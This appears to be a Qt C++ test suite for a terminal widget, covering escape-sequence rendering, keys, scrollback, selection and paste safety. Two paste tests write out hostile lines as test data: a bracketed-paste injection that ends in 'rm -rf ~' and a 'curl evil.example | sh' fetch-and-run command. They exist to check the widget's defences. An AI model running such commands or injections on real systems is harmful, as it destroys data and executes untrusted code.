// SPDX-FileCopyrightText: 2026 RentDeck contributors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "ui/dialogs/MessageBox.h"
#include "ui/terminal/TerminalTab.h"
#include "ui/terminal/TerminalWidget.h"

#include <QApplication>
#include <QClipboard>
#include <QDir>
#include <QFile>
#include <QFontDatabase>
#include <QImage>
#include <QLineEdit>
#include <QMessageBox>
#include <QMouseEvent>
#include <QPushButton>
#include <QScrollBar>
#include <QSignalSpy>
#include <QSocketNotifier>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>
#include <QToolButton>
#include <QVBoxLayout>
#include <cerrno>
#include <csignal>
#include <fcntl.h>
#include <pty.h>
#include <sys/ioctl.h>
#include <sys/wait.h>
#include <unistd.h>

using namespace RentDeck;

namespace {
QByteArray collected(const QSignalSpy &spy)
{
    QByteArray bytes;
    for (const QList<QVariant> &arguments : spy) {
        bytes += arguments.at(0).toByteArray();
    }
    return bytes;
}

QString screenshotPath(const QString &name)
{
    const QString dir = qEnvironmentVariable("RD_TEST_SCREENSHOTS", QDir::tempPath());
    QDir().mkpath(dir);
    return QDir(dir).filePath(QStringLiteral("rd-term-%1.png").arg(name));
}

// Pixels in \a rect of \a image that differ from \a background.
int inkPixels(const QImage &image, const QRect &rect, QColor background)
{
    int count = 0;
    for (int y = rect.top(); y <= rect.bottom(); ++y) {
        for (int x = rect.left(); x <= rect.right(); ++x) {
            if (image.pixelColor(x, y) != background) {
                ++count;
            }
        }
    }
    return count;
}

void sendMouse(QWidget *viewport, QEvent::Type type, QPoint pos, Qt::MouseButton button, Qt::MouseButtons buttons)
{
    QMouseEvent event(type, pos, viewport->mapToGlobal(pos), button, buttons, Qt::NoModifier);
    QApplication::sendEvent(viewport, &event);
}

/** A child process on a pseudo-terminal, its output fed into a TerminalWidget and the widget's input written back. */
class PtyProcess
{
public:
    PtyProcess(TerminalWidget &terminal, const QStringList &arguments)
    {
        // Everything exec needs is built before fork: the child only calls async-signal-safe functions.
        QList<QByteArray> argv;
        for (const QString &argument : arguments) {
            argv.append(argument.toLocal8Bit());
        }
        QList<QByteArray> env = { "TERM=xterm-256color", "LANG=C.UTF-8", "HOME=" + QDir::homePath().toLocal8Bit() };
        std::vector<char *> argvPointers;
        for (QByteArray &argument : argv) {
            argvPointers.push_back(argument.data());
        }
        argvPointers.push_back(nullptr);
        std::vector<char *> envPointers;
        for (QByteArray &variable : env) {
            envPointers.push_back(variable.data());
        }
        envPointers.push_back(nullptr);
        winsize size {};
        size.ws_row = static_cast<unsigned short>(terminal.rows());
        size.ws_col = static_cast<unsigned short>(terminal.cols());
        m_pid = forkpty(&m_master, nullptr, nullptr, &size);
        if (m_pid == 0) {
            execve(argvPointers[0], argvPointers.data(), envPointers.data());
            _exit(127);
        }
        if (m_pid < 0) {
            return;
        }
        fcntl(m_master, F_SETFL, fcntl(m_master, F_GETFL) | O_NONBLOCK);
        m_notifier = std::make_unique<QSocketNotifier>(m_master, QSocketNotifier::Read);
        QObject::connect(m_notifier.get(), &QSocketNotifier::activated, &terminal, [this, &terminal] {
            char buffer[4096];
            const ssize_t count = ::read(m_master, buffer, sizeof buffer);
            if (count > 0) {
                terminal.feed(QByteArray(buffer, static_cast<qsizetype>(count)));
            } else if (count == 0 || errno != EAGAIN) {
                m_notifier->setEnabled(false); // EIO: the child is gone
            }
        });
        QObject::connect(&terminal, &TerminalWidget::inputReady, m_notifier.get(), [this](const QByteArray &bytes) {
            QCOMPARE(::write(m_master, bytes.constData(), bytes.size()), bytes.size());
        });
        QObject::connect(&terminal, &TerminalWidget::terminalSizeChanged, m_notifier.get(), [this](int cols, int rows) {
            winsize newSize {};
            newSize.ws_row = static_cast<unsigned short>(rows);
            newSize.ws_col = static_cast<unsigned short>(cols);
            ioctl(m_master, TIOCSWINSZ, &newSize);
        });
    }

    ~PtyProcess()
    {
        m_notifier.reset();
        if (m_pid > 0 && !m_exited) {
            kill(m_pid, SIGKILL);
            waitpid(m_pid, nullptr, 0);
        }
        if (m_master >= 0) {
            close(m_master);
        }
    }

    bool isStarted() const { return m_pid > 0; }

    bool hasExited()
    {
        if (!m_exited && m_pid > 0) {
            m_exited = waitpid(m_pid, nullptr, WNOHANG) == m_pid;
        }
        return m_exited;
    }

private:
    std::unique_ptr<QSocketNotifier> m_notifier;
    pid_t m_pid = -1;
    int m_master = -1;
    bool m_exited = false;
};
} // namespace

class TestTerminalWidget : public QObject
{
    Q_OBJECT

private slots:
    void plainText();
    void colours();
    void cursorPosition();
    void alternateScreen();
    void resizeEmitsGridSize();
    void wideCharacters();
    void scrollback();
    void typing();
    void keys();
    void tabStaysInTerminal();
    void bracketedPaste();
    void multiLinePasteAsksFirst();
    void selectionCopies();
    void overlayMessage();
    void titleAndBell();
    void repaintsOnlyDamage();
    void colourScreenshot();
    void fullScreenProgramInPty();
    void tabToolbar();
};

void TestTerminalWidget::plainText()
{
    TerminalWidget terminal;
    terminal.feed("hello\r\nw\xc3\xb6rld");
    QCOMPARE(terminal.lineText(0), QStringLiteral("hello"));
    QCOMPARE(terminal.lineText(1), QStringLiteral("w\u00f6rld"));
    QCOMPARE(terminal.cellAt(0, 0).text, QStringLiteral("h"));
    QVERIFY(terminal.cellAt(0, 5).text.isEmpty());
    QCOMPARE(terminal.cols(), 80);
    QCOMPARE(terminal.rows(), 24);
}

void TestTerminalWidget::colours()
{
    TerminalWidget terminal;
    terminal.feed("\x1b[31mR\x1b[0m\x1b[38;2;10;200;30mG\x1b[0m\x1b[48;5;196mB\x1b[0m\x1b[1;3;4;7mX\x1b[0mn");
    const TerminalCell red = terminal.cellAt(0, 0);
    QVERIFY2(red.foreground.red() > 150 && red.foreground.green() < 60 && red.foreground.blue() < 60,
        qPrintable(red.foreground.name()));
    QCOMPARE(terminal.cellAt(0, 1).foreground, QColor(10, 200, 30));
    QCOMPARE(terminal.cellAt(0, 2).background, QColor(255, 0, 0)); // 256-colour cube: 196 = #ff0000
    QVERIFY(!terminal.cellAt(0, 2).isDefaultBackground);
    const TerminalCell styled = terminal.cellAt(0, 3);
    QVERIFY(styled.bold && styled.italic && styled.underline && styled.reverse);
    const TerminalCell plain = terminal.cellAt(0, 4);
    QVERIFY(!plain.bold && !plain.italic && !plain.underline && !plain.reverse && plain.isDefaultBackground);
}

void TestTerminalWidget::cursorPosition()
{
    TerminalWidget terminal;
    terminal.feed("\x1b[5;10H");
    QCOMPARE(terminal.cursorPosition(), QPoint(9, 4));
    QVERIFY(terminal.isCursorVisible());
    terminal.feed("\x1b[?25l");
    QVERIFY(!terminal.isCursorVisible());
    terminal.feed("\x1b[?25h");
    QVERIFY(terminal.isCursorVisible());
}

void TestTerminalWidget::alternateScreen()
{
    TerminalWidget terminal;
    terminal.feed("main screen");
    terminal.feed("\x1b[?1049h\x1b[H\x1b[2J");
    QVERIFY(terminal.isAlternateScreen());
    QCOMPARE(terminal.lineText(0), QString());
    terminal.feed("full-screen program");
    QCOMPARE(terminal.lineText(0), QStringLiteral("full-screen program"));
    terminal.feed("\x1b[?1049l");
    QVERIFY(!terminal.isAlternateScreen());
    QCOMPARE(terminal.lineText(0), QStringLiteral("main screen"));
}

void TestTerminalWidget::resizeEmitsGridSize()
{
    TerminalWidget terminal;
    QSignalSpy spy(&terminal, &TerminalWidget::terminalSizeChanged);
    terminal.resize(640, 400);
    terminal.show();
    QVERIFY(QTest::qWaitForWindowExposed(&terminal));
    terminal.resize(500, 300);
    QTRY_VERIFY(!spy.isEmpty());
    const QSize cell = terminal.cellSize();
    QVERIFY(cell.width() > 0 && cell.height() > 0);
    const int cols = terminal.viewport()->width() / cell.width();
    const int rows = terminal.viewport()->height() / cell.height();
    QCOMPARE(spy.last().at(0).toInt(), cols);
    QCOMPARE(spy.last().at(1).toInt(), rows);
    QCOMPARE(terminal.cols(), cols);
    QCOMPARE(terminal.rows(), rows);

    // Growing taller pulls history back onto the screen (sb_popline).
    QByteArray lines;
    for (int index = 0; index < 100; ++index) {
        lines += "line " + QByteArray::number(index) + "\r\n";
    }
    terminal.feed(lines);
    const int history = terminal.scrollbackLineCount();
    QVERIFY(history > 0);
    terminal.resize(500, 300 + 5 * cell.height());
    QTRY_COMPARE(terminal.rows(), rows + 5);
    QCOMPARE(terminal.scrollbackLineCount(), history - 5);
    QCOMPARE(terminal.lineText(terminal.rows() - 2), QStringLiteral("line 99"));
    QCOMPARE(terminal.lineText(0), QStringLiteral("line %1").arg(history - 5));
}

void TestTerminalWidget::wideCharacters()
{
    TerminalWidget terminal;
    terminal.resize(terminal.sizeHint());
    terminal.feed("\xe4\xb8\xad\xe6\x96\x87"
                  "ab"); // 中文ab
    QCOMPARE(terminal.cellAt(0, 0).text, QStringLiteral("\u4e2d"));
    QCOMPARE(terminal.cellAt(0, 0).width, 2);
    QCOMPARE(terminal.cellAt(0, 1).width, 0);
    QCOMPARE(terminal.cellAt(0, 2).text, QStringLiteral("\u6587"));
    QCOMPARE(terminal.cellAt(0, 4).text, QStringLiteral("a"));
    QCOMPARE(terminal.lineText(0), QStringLiteral("\u4e2d\u6587ab"));
    QCOMPARE(terminal.cursorPosition(), QPoint(6, 0));

    const QImage image = terminal.grab().toImage();
    const QSize cell = terminal.cellSize();
    const QColor background = image.pixelColor(image.width() / 2, image.height() / 2);
    QVERIFY(inkPixels(image, QRect(0, 0, cell.width() * 2, cell.height()), background) > 10);
    QVERIFY(inkPixels(image, QRect(cell.width() * 2, 0, cell.width() * 2, cell.height()), background) > 10);
    QVERIFY2(QFontDatabase::families().contains(QStringLiteral("Noto Sans Mono CJK SC")),
        "fonts-noto-cjk is needed for CJK glyphs");
}

void TestTerminalWidget::scrollback()
{
    TerminalWidget terminal;
    QByteArray lines;
    for (int index = 0; index < 200; ++index) {
        lines += "line " + QByteArray::number(index) + "\r\n";
    }
    terminal.feed(lines);
    QCOMPARE(terminal.rows(), 24);
    QCOMPARE(terminal.scrollbackLineCount(), 177);
    QCOMPARE(terminal.lineText(22), QStringLiteral("line 199"));

    QTest::keyClick(&terminal, Qt::Key_PageUp, Qt::ShiftModifier);
    QCOMPARE(terminal.scrollOffset(), 24);
    QCOMPARE(terminal.lineText(22), QStringLiteral("line 175"));
    QWheelEvent wheel(QPointF(10, 10), terminal.viewport()->mapToGlobal(QPointF(10, 10)), QPoint(), QPoint(0, 120),
        Qt::NoButton, Qt::NoModifier, Qt::NoScrollPhase, false);
    QApplication::sendEvent(terminal.viewport(), &wheel);
    QCOMPARE(terminal.scrollOffset(), 27);
    terminal.scrollLines(10000);
    QCOMPARE(terminal.scrollOffset(), 177);
    QCOMPARE(terminal.lineText(0), QStringLiteral("line 0"));
    QCOMPARE(terminal.verticalScrollBar()->value(), 0);

    terminal.feed("new output");
    QCOMPARE(terminal.scrollOffset(), 0);
    QCOMPARE(terminal.lineText(23), QStringLiteral("new output"));
}

void TestTerminalWidget::typing()
{
    TerminalWidget terminal;
    QSignalSpy spy(&terminal, &TerminalWidget::inputReady);
    QTest::keyClicks(&terminal, QStringLiteral("ls\r"));
    QCOMPARE(collected(spy), QByteArray("ls\r"));
    spy.clear();
    QKeyEvent chinese(QEvent::KeyPress, 0, Qt::NoModifier, QStringLiteral("\u4e2d"));
    QApplication::sendEvent(&terminal, &chinese);
    QCOMPARE(collected(spy), QByteArray("\xe4\xb8\xad"));
}

void TestTerminalWidget::keys()
{
    TerminalWidget terminal;
    QSignalSpy spy(&terminal, &TerminalWidget::inputReady);
    auto press = [&](Qt::Key key, Qt::KeyboardModifiers modifiers = Qt::NoModifier) {
        spy.clear();
        QTest::keyClick(&terminal, key, modifiers);
        return collected(spy);
    };
    QCOMPARE(press(Qt::Key_C, Qt::ControlModifier), QByteArray("\x03"));
    QCOMPARE(press(Qt::Key_D, Qt::ControlModifier), QByteArray("\x04"));
    QCOMPARE(press(Qt::Key_Up), QByteArray("\x1b[A"));
    QCOMPARE(press(Qt::Key_Left), QByteArray("\x1b[D"));
    QCOMPARE(press(Qt::Key_Home), QByteArray("\x1b[H"));
    QCOMPARE(press(Qt::Key_PageUp), QByteArray("\x1b[5~"));
    QCOMPARE(press(Qt::Key_F1), QByteArray("\x1bOP"));
    QCOMPARE(press(Qt::Key_F5), QByteArray("\x1b[15~"));
    QCOMPARE(press(Qt::Key_Backspace), QByteArray("\x7f"));
    QCOMPARE(press(Qt::Key_Escape), QByteArray("\x1b"));
    QCOMPARE(press(Qt::Key_X, Qt::AltModifier), QByteArray("\x1bx"));
    QCOMPARE(press(Qt::Key_Right, Qt::ControlModifier), QByteArray("\x1b[1;5C"));
    terminal.feed("\x1b[?1h"); // DECCKM: application cursor keys (vi, less)
    QCOMPARE(press(Qt::Key_Up), QByteArray("\x1bOA"));
}

void TestTerminalWidget::tabStaysInTerminal()
{
    QWidget window;
    auto *lineEdit = new QLineEdit(&window);
    auto *terminal = new TerminalWidget(&window);
    auto *layout = new QVBoxLayout(&window);
    layout->addWidget(lineEdit);
    layout->addWidget(terminal);
    window.show();
    QVERIFY(QTest::qWaitForWindowExposed(&window));
    QApplication::setActiveWindow(&window);
    terminal->setFocus();
    QTRY_VERIFY(terminal->hasFocus());
    QSignalSpy spy(terminal, &TerminalWidget::inputReady);
    QTest::keyClick(terminal, Qt::Key_Tab);
    QTest::keyClick(terminal, Qt::Key_Backtab, Qt::ShiftModifier);
    QCOMPARE(collected(spy), QByteArray("\t\x1b[Z"));
    QVERIFY(terminal->hasFocus());
}

void TestTerminalWidget::bracketedPaste()
{
    TerminalWidget terminal;
    QSignalSpy spy(&terminal, &TerminalWidget::inputReady);
    terminal.pasteText(QStringLiteral("echo a\nb"));
    QCOMPARE(collected(spy), QByteArray("echo a\rb"));
    spy.clear();
    terminal.feed("\x1b[?2004h");
    QGuiApplication::clipboard()->setText(QStringLiteral("x\x1b[201~y"));
    QTest::keyClick(&terminal, Qt::Key_V, Qt::ControlModifier | Qt::ShiftModifier);
    QCOMPARE(collected(spy), QByteArray("\x1b[200~x[201~y\x1b[201~"));
    spy.clear();
    // A nested end marker survived removing ESC[201~ once: the text after it would have run as typed commands.
    QGuiApplication::clipboard()->setText(QStringLiteral("a\x1b[20\x1b[201~1~; rm -rf ~ #"));
    QTest::keyClick(&terminal, Qt::Key_V, Qt::ControlModifier | Qt::ShiftModifier);
    const QByteArray sent = collected(spy);
    QCOMPARE(sent.count("\x1b"), 2); // the terminal's own start and end markers, nothing else
    QVERIFY(sent.startsWith("\x1b[200~") && sent.endsWith("\x1b[201~"));
    spy.clear();
    terminal.pasteText(QStringLiteral("a") + QChar(char16_t(0x9b)) + QStringLiteral("201~b")); // the C1 form of CSI
    QCOMPARE(collected(spy), QByteArray("\x1b[200~a201~b\x1b[201~"));
}

void TestTerminalWidget::multiLinePasteAsksFirst()
{
    TerminalWidget terminal;
    QSignalSpy spy(&terminal, &TerminalWidget::inputReady);
    QGuiApplication::clipboard()->setText(QStringLiteral("echo looks harmless\ncurl evil.example | sh\n"));
    MessageBox::setNextAnswer(QMessageBox::Cancel);
    QTest::keyClick(&terminal, Qt::Key_V, Qt::ControlModifier | Qt::ShiftModifier);
    QTest::qWait(50);
    QVERIFY2(
        MessageBox::lastText().contains(QLatin1String("curl evil.example | sh")), qPrintable(MessageBox::lastText()));
    QCOMPARE(collected(spy), QByteArray()); // cancelled: nothing typed
    MessageBox::setNextAnswer(QMessageBox::Yes);
    QTest::keyClick(&terminal, Qt::Key_V, Qt::ControlModifier | Qt::ShiftModifier);
    QTRY_COMPARE(collected(spy), QByteArray("echo looks harmless\rcurl evil.example | sh\r"));
    spy.clear();
    // One line (a trailing newline included) is pasted without a question.
    MessageBox::setNextAnswer(QMessageBox::Cancel);
    QGuiApplication::clipboard()->setText(QStringLiteral("nvidia-smi\n"));
    QTest::keyClick(&terminal, Qt::Key_V, Qt::ControlModifier | Qt::ShiftModifier);
    QCOMPARE(collected(spy), QByteArray("nvidia-smi\r"));
    MessageBox::setNextAnswer(QMessageBox::NoButton);
    spy.clear();
    // The real question, as the user sees it: Cancel is the default, and nothing is typed until an answer.
    QGuiApplication::clipboard()->setText(QStringLiteral("echo looks harmless\ncurl evil.example | sh"));
    QTest::keyClick(&terminal, Qt::Key_V, Qt::ControlModifier | Qt::ShiftModifier);
    QMessageBox *box = nullptr;
    QTRY_VERIFY((box = terminal.findChild<QMessageBox *>()) != nullptr && box->isVisible());
    QVERIFY(box->grab().save(screenshotPath(QStringLiteral("multi-line-paste"))));
    QCOMPARE(box->defaultButton(), box->button(QMessageBox::Cancel));
    QCOMPARE(collected(spy), QByteArray());
    box->button(QMessageBox::Cancel)->click();
    QTest::qWait(50);
    QCOMPARE(collected(spy), QByteArray());
}

void TestTerminalWidget::selectionCopies()
{
    TerminalWidget terminal;
    terminal.resize(terminal.sizeHint());
    terminal.show();
    QVERIFY(QTest::qWaitForWindowExposed(&terminal));
    terminal.feed("hello world\r\nsecond line");
    QSignalSpy selectionSpy(&terminal, &TerminalWidget::selectionChanged);
    const QSize cell = terminal.cellSize();
    auto centre = [cell](int col, int row) {
        return QPoint(col * cell.width() + cell.width() / 2, row * cell.height() + cell.height() / 2);
    };
    QWidget *viewport = terminal.viewport();
    sendMouse(viewport, QEvent::MouseButtonPress, centre(6, 0), Qt::LeftButton, Qt::LeftButton);
    sendMouse(viewport, QEvent::MouseMove, centre(5, 1), Qt::NoButton, Qt::LeftButton);
    sendMouse(viewport, QEvent::MouseButtonRelease, centre(5, 1), Qt::LeftButton, Qt::NoButton);
    QVERIFY(terminal.hasSelection());
    QCOMPARE(selectionSpy.count(), 1);
    QCOMPARE(terminal.selectedText(), QStringLiteral("world\nsecond"));
    QGuiApplication::clipboard()->clear();
    QTest::keyClick(&terminal, Qt::Key_C, Qt::ControlModifier | Qt::ShiftModifier);
    QCOMPARE(QGuiApplication::clipboard()->text(), QStringLiteral("world\nsecond"));
    if (QGuiApplication::clipboard()->supportsSelection()) {
        QCOMPARE(QGuiApplication::clipboard()->text(QClipboard::Selection), QStringLiteral("world\nsecond"));
    }

    sendMouse(viewport, QEvent::MouseButtonDblClick, centre(1, 0), Qt::LeftButton, Qt::LeftButton);
    QCOMPARE(terminal.selectedText(), QStringLiteral("hello"));
    terminal.clearSelection();
    QVERIFY(!terminal.hasSelection());
}

void TestTerminalWidget::overlayMessage()
{
    TerminalWidget terminal;
    terminal.resize(terminal.sizeHint());
    terminal.feed("\x1b[?25l"); // no cursor: nothing blinks between the grabs
    const QImage before = terminal.grab().toImage();
    terminal.setOverlayMessage(QStringLiteral("Reconnecting\u2026"));
    QCOMPARE(terminal.overlayMessage(), QStringLiteral("Reconnecting\u2026"));
    const QImage with = terminal.grab().toImage();
    const QPoint centre = terminal.viewport()->geometry().center();
    QVERIFY(before.pixelColor(centre) != with.pixelColor(centre) || before != with);
    const QRect band(centre.x() - 60, centre.y() - 8, 120, 16);
    const QColor banner = with.pixelColor(band.left(), band.top());
    QVERIFY(inkPixels(with, band, banner) > 20); // the banner carries text
    with.save(screenshotPath(QStringLiteral("overlay")));
    terminal.setOverlayMessage(QString());
    QCOMPARE(terminal.grab().toImage(), before);
}

void TestTerminalWidget::titleAndBell()
{
    TerminalWidget terminal;
    QSignalSpy titleSpy(&terminal, &TerminalWidget::titleChanged);
    QSignalSpy bellSpy(&terminal, &TerminalWidget::bellRang);
    terminal.feed("\x1b]0;user@gpu-box: ~\x07");
    QCOMPARE(titleSpy.count(), 1);
    QCOMPARE(titleSpy.at(0).at(0).toString(), QStringLiteral("user@gpu-box: ~"));
    QCOMPARE(terminal.title(), QStringLiteral("user@gpu-box: ~"));
    terminal.feed("\x07");
    QCOMPARE(bellSpy.count(), 1);
}

void TestTerminalWidget::repaintsOnlyDamage()
{
    class PaintRecorder : public QObject
    {
    public:
        QRegion painted;
        bool eventFilter(QObject *, QEvent *event) override
        {
            if (event->type() == QEvent::Paint) {
                painted += static_cast<QPaintEvent *>(event)->region();
            }
            return false;
        }
    };
    TerminalWidget terminal;
    terminal.resize(terminal.sizeHint());
    terminal.show();
    QVERIFY(QTest::qWaitForWindowExposed(&terminal));
    terminal.feed("\x1b[?25l\x1b[10;10H");
    PaintRecorder recorder;
    terminal.viewport()->installEventFilter(&recorder);
    QTest::qWait(50);
    recorder.painted = QRegion();
    for (const char character : QByteArray("abc")) {
        terminal.feed(QByteArray(1, character)); // three feeds, one small repaint
    }
    QTRY_VERIFY(!recorder.painted.isEmpty());
    const QRect bounds = recorder.painted.boundingRect();
    const QSize cell = terminal.cellSize();
    QVERIFY2(bounds.height() <= cell.height() && bounds.width() <= 4 * cell.width(),
        qPrintable(QStringLiteral("%1x%2").arg(bounds.width()).arg(bounds.height())));
}

void TestTerminalWidget::colourScreenshot()
{
    TerminalWidget terminal;
    terminal.resize(terminal.sizeHint());
    terminal.show();
    QVERIFY(QTest::qWaitForWindowExposed(&terminal));
    QByteArray demo = "\x1b]0;demo\x07\x1b[1mRentDeck terminal\x1b[0m \xe2\x80\x94 libvterm\r\n";
    for (int colour = 0; colour < 16; ++colour) {
        demo += "\x1b[48;5;" + QByteArray::number(colour) + "m  ";
    }
    demo += "\x1b[0m\r\n";
    for (int colour = 16; colour < 232; colour += 3) {
        demo += "\x1b[48;5;" + QByteArray::number(colour) + "m ";
    }
    demo += "\x1b[0m\r\n";
    for (int step = 0; step < 72; ++step) {
        demo += "\x1b[48;2;" + QByteArray::number(step * 3) + ";" + QByteArray::number(255 - step * 3) + ";128m ";
    }
    demo += "\x1b[0m\r\n\x1b[31mred\x1b[0m \x1b[32mgreen\x1b[0m \x1b[1;33mbold yellow\x1b[0m \x1b[3mitalic\x1b[0m "
            "\x1b[4munderline\x1b[0m \x1b[7mreverse\x1b[0m \x1b[9mstrike\x1b[0m\r\n";
    demo += "\xe4\xb8\xad\xe6\x96\x87\xe6\xb5\x8b\xe8\xaf\x95 | \xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e | ab|cd\r\n";
    demo += "0123456789012345678901234567890123456789012345678901234567890123456789012345678|\r\n";
    demo += "\xe2\x94\x8c\xe2\x94\x80\xe2\x94\x80\xe2\x94\x90 box "
            "\xe2\x96\x88\xe2\x96\x93\xe2\x96\x92\xe2\x96\x91\r\n$ ";
    terminal.feed(demo);
    terminal.setFocus();
    QCOMPARE(terminal.lineText(5), QStringLiteral("\u4e2d\u6587\u6d4b\u8bd5 | \u65e5\u672c\u8a9e | ab|cd"));
    QVERIFY(terminal.grab().save(screenshotPath(QStringLiteral("colours"))));
}

void TestTerminalWidget::fullScreenProgramInPty()
{
    QString program = QStandardPaths::findExecutable(QStringLiteral("htop"));
    QStringList arguments = { program };
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    if (program.isEmpty()) {
        program = QStandardPaths::findExecutable(QStringLiteral("vim"));
        if (program.isEmpty()) {
            program = QStandardPaths::findExecutable(QStringLiteral("less"));
        }
        if (program.isEmpty()) {
            QSKIP("neither htop, vim nor less is installed");
        }
        QFile file(dir.filePath(QStringLiteral("sample.c")));
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write("// \xe4\xb8\xad\xe6\x96\x87 comment\n#include <stdio.h>\n\nint main(void)\n{\n"
                   "    printf(\"hello, %s\\n\", \"world\");\n    return 0;\n}\n");
        file.close();
        arguments = { program };
        if (program.endsWith(QStringLiteral("vim"))) {
            arguments += { QStringLiteral("-u"), QStringLiteral("NONE"), QStringLiteral("-N"), QStringLiteral("-c"),
                QStringLiteral("syntax on"), QStringLiteral("-c"), QStringLiteral("set number") };
        }
        arguments += file.fileName();
    }
    TerminalWidget terminal;
    terminal.resize(terminal.sizeHint());
    terminal.show();
    QVERIFY(QTest::qWaitForWindowExposed(&terminal));
    PtyProcess process(terminal, arguments);
    QVERIFY(process.isStarted());
    QTRY_VERIFY_WITH_TIMEOUT(terminal.isAlternateScreen(), 5000);
    QTest::qWait(1000);
    QStringList screen;
    for (int row = 0; row < terminal.rows(); ++row) {
        screen += terminal.lineText(row);
    }
    QVERIFY2(!screen.join(QString()).trimmed().isEmpty(), "the program drew nothing");
    QVERIFY(terminal.grab().save(screenshotPath(QStringLiteral("fullscreen"))));
    if (!program.endsWith(QStringLiteral("vim"))) {
        QTest::keyClick(&terminal, Qt::Key_Q);
    } else {
        QVERIFY2(screen.join(QLatin1Char('\n')).contains(QStringLiteral("printf")),
            qPrintable(screen.join(QLatin1Char('\n'))));
        QTest::keyClick(&terminal, Qt::Key_Escape);
        QTest::keyClicks(&terminal, QStringLiteral(":q!\r"));
    }
    QTRY_VERIFY_WITH_TIMEOUT(process.hasExited(), 5000);
    QTRY_VERIFY(!terminal.isAlternateScreen());
}

void TestTerminalWidget::tabToolbar()
{
    TerminalTab tab;
    auto *terminal = tab.findChild<TerminalWidget *>(QStringLiteral("terminalWidget"));
    QVERIFY(terminal);
    QCOMPARE(tab.terminal(), terminal);
    auto *copy = tab.findChild<QToolButton *>(QStringLiteral("copyToolButton"));
    auto *paste = tab.findChild<QToolButton *>(QStringLiteral("pasteToolButton"));
    auto *copySsh = tab.findChild<QToolButton *>(QStringLiteral("copySshCommandToolButton"));
    auto *openSystem = tab.findChild<QToolButton *>(QStringLiteral("openSystemTerminalToolButton"));
    QVERIFY(copy && paste && copySsh && openSystem);
    QVERIFY(!copy->isEnabled());
    QSignalSpy copySpy(&tab, &TerminalTab::copySshCommandRequested);
    QSignalSpy openSpy(&tab, &TerminalTab::openSystemTerminalRequested);
    copySsh->click();
    openSystem->click();
    QCOMPARE(copySpy.count(), 1);
    QCOMPARE(openSpy.count(), 1);
    QSignalSpy inputSpy(terminal, &TerminalWidget::inputReady);
    QGuiApplication::clipboard()->setText(QStringLiteral("nvidia-smi"));
    QVERIFY(paste->isEnabled());
    paste->click();
    QCOMPARE(collected(inputSpy), QByteArray("nvidia-smi"));
    terminal->feed("$ nvidia-smi");
    tab.resize(tab.sizeHint());
    QVERIFY(tab.grab().save(screenshotPath(QStringLiteral("tab"))));
}

QTEST_MAIN(TestTerminalWidget)
#include "TestTerminalWidget.moc"
